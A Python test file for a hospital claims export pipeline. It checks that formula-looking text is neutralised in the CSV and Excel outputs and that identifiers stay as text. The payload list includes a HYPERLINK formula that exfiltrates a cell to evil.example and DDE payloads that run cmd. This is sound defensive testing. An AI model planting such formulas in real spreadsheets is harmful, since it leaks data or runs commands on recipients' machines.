"""Spreadsheets that survive Excel (issues #13, #18): hospital text that looks like a formula is neutralised
in suspects.csv, suspects.xlsx and feedback.xlsx (OWASP: a leading single quote; in xlsx a string cell,
never a formula), amounts stay numbers, and identifiers stay text with every digit and leading zero."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from pipelines.contract import SUSPECT_SCHEMA
from pipelines.contract.spreadsheet import IDENTIFIER_COLUMNS, neutralise, put_cell
from pipelines.export import package as pkg

PUBLISHED = dt.datetime(2023, 5, 2, 8, 0, tzinfo=dt.timezone.utc)

#: every kind of formula start OWASP lists, and the variants spreadsheets also take as one
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',   # '=' formula with a link out
    "+1+1",                                                 # '+'
    "-2+3",                                                 # '-'
    "@SUM(1+1)*cmd|' /C calc'!A0",                          # '@' and DDE
    "=cmd|' /C notepad'!'A1'",                              # DDE through '='
    "\t=1+1",                                               # tab first
    "\r=1+1",                                               # carriage return first
    "\n=1+1",                                               # line feed first
    "  =1+1",                                               # spaces, then '='
    "＝1+1",                                                 # full-width '='
    "－2+3",                                                 # full-width '-'
]
HARMLESS = ["", "同日床位费计 2 次，限 1 次", "1+1", "A-1", "患者=住院", "'=already quoted"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_gets_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS + [None, 0, -3, 12.5, Decimal("-12.50"), dt.datetime(2023, 3, 1)])
def test_text_that_is_no_formula_and_every_number_stay_as_they_are(value):
    assert neutralise(value) is value


def hostile(sid, evidence, **ids):
    """A suspect whose hospital-derived text is `evidence` and whose identifiers are `ids`."""
    row = {
        "suspect_id": sid, "rule_id": "daily_cap_item", "rule_version": 1, "family": "daily_cap",
        "category": "超量收费", "severity": "violation", "fixmedins_code": "H001", "period": "2023-03",
        "psn_no": "P1", "mdtrt_id": f"M-{sid}", "setl_id": f"S-{sid}", "feedetl_sn": f"F-{sid}",
        "hilist_code": "001109000010000", "event_time": dt.datetime(2023, 3, 10, 9, 30),
        "amount": Decimal("12.50"), "evidence": evidence, "run_id": "run-1",
        "rule_set_fingerprint": "fp0123456789abcd", "input_versions": '{"silver/fee_list": 3}',
        "published_at": PUBLISHED,
    }
    row.update(ids)
    return row


#: one suspect per payload in the evidence; the first ones also carry a payload in identifier columns
HOSTILE = [hostile(f"s{i:02d}", p) for i, p in enumerate(PAYLOADS)]
HOSTILE[0].update(mdtrt_id="=1+1", hilist_code="@A1")
HOSTILE[1].update(feedetl_sn="-5+5", setl_id="+7")
HOSTILE[2]["amount"] = Decimal("-12.50")               # a negative amount: a number, never quoted
#: identifiers Excel would mangle: 16 digits (→ 3.30103E+15), leading zeros, hex that reads as 1.2E+89
IDS = dict(suspect_id="1234e89", psn_no="3301030000000001", hilist_code="00123", feedetl_sn="000045",
           setl_id="0012", mdtrt_id="0330100000000000077")
NUMERIC_LOOKING = [hostile("x", "普通依据", **IDS)]


def build(rows):
    table = pa.Table.from_pylist(rows, schema=SUSPECT_SCHEMA)
    return pkg.build_package(table, "H001", "2023-03", rules={}, generated_at=PUBLISHED, font=None)


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formula_elements(data: bytes) -> list[str]:
    """Every <f> (formula) element in any sheet of an xlsx, read from the file itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
                and re.search(rb"<(\w+:)?f[ >]", z.read(n))]


def test_csv_quotes_every_payload_and_keeps_amounts_numbers():
    rows = {r["suspect_id"]: r for r in csv_rows(build(HOSTILE)[pkg.CSV])}
    for r in HOSTILE:
        out = rows[r["suspect_id"]]
        assert out["evidence"] == "'" + r["evidence"]
        for col, value in out.items():                     # no cell of any column starts a formula
            assert value == "" or value[0] not in "=+-@\t\r\n＝＋－＠" or col == "amount", (col, value)
    assert (rows["s00"]["mdtrt_id"], rows["s00"]["hilist_code"]) == ("'=1+1", "'@A1")
    assert (rows["s01"]["feedetl_sn"], rows["s01"]["setl_id"]) == ("'-5+5", "'+7")
    assert rows["s02"]["amount"] == "-12.50" and rows["s03"]["amount"] == "12.50"


@pytest.mark.parametrize("name", [pkg.XLSX, pkg.FEEDBACK])
def test_no_cell_of_the_workbooks_is_a_formula(name):
    data = build(HOSTILE)[name]
    assert formula_elements(data) == []
    wb = workbook(data)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.value[0] not in "=+-@\t\r\n＝＋－＠", (ws.title, c.coordinate, c.value)
                    texts.append(c.value)
    texts = {t.replace("\r", "\n") for t in texts}           # a CR may come back as LF
    for p in PAYLOADS:                                      # every payload is there, quoted, as text
        assert "'" + p.replace("\r", "\n") in texts, p


def test_xlsx_amounts_stay_numbers_next_to_quoted_text():
    ws = workbook(build(HOSTILE)[pkg.XLSX])["疑点清单"]
    header = [c.value for c in ws[1]]
    amount = header.index("涉及金额(元)")
    cells = {r[0].value: r[amount] for r in ws.iter_rows(min_row=2)}
    assert cells["s02"].value == -12.5 and cells["s02"].data_type == "n"
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in cells.values())


def test_identifiers_keep_every_digit_and_leading_zero_as_text_cells():
    files = build(NUMERIC_LOOKING)
    ws = workbook(files[pkg.XLSX])["疑点清单"]
    header = [c.value for c in ws[1]]
    cols = [c for c, _ in pkg.LIST_COLUMNS]
    row = {cols[i]: c for i, c in enumerate(ws[2])}
    assert [cols[i] for i, _ in enumerate(header)] == cols
    for col, value in IDS.items():
        cell = row[col]
        assert (cell.value, cell.data_type, cell.number_format) == (value, "s", "@"), col
    for col in IDENTIFIER_COLUMNS & set(cols):              # every identifier column is a text column
        assert row[col].number_format == "@", col
    assert row["amount"].data_type == "n" and row["rule_version"].data_type == "n"
    fb = workbook(files[pkg.FEEDBACK])["feedback"]
    sid = fb.cell(row=3, column=1)
    assert (sid.value, sid.data_type, sid.number_format) == ("1234e89", "s", "@")
    assert fb.cell(row=3, column=5).number_format == "@"    # 佐证材料编号: a typed 00123 stays 00123
    recs = csv_rows(files[pkg.CSV])                         # the CSV holds them exactly, as plain text
    assert {c: recs[0][c] for c in IDS} == IDS


def test_a_control_character_in_hospital_text_does_not_break_the_workbook():
    files = build([hostile("s1", "项目\x0b名称\x01=1")])
    ws = workbook(files[pkg.XLSX])["疑点清单"]
    evidence = [c.value for c in ws[2] if isinstance(c.value, str) and "项目" in c.value]
    assert evidence == ["项目\ufffd名称\ufffd=1"]
    assert csv_rows(files[pkg.CSV])[0]["evidence"] == "项目\x0b名称\x01=1"   # the CSV keeps the text


def test_put_cell_turns_an_identifier_number_into_text():
    from openpyxl import Workbook
    ws = Workbook().active
    cell = put_cell(ws, 1, 1, 3301030000000001, text=True)
    assert (cell.value, cell.data_type, cell.number_format) == ("3301030000000001", "s", "@")
    assert put_cell(ws, 2, 1, "=1+1").data_type == "s" and ws["A2"].value == "'=1+1"
    assert put_cell(ws, 3, 1, None, text=True).number_format == "@" and ws["A3"].value is None
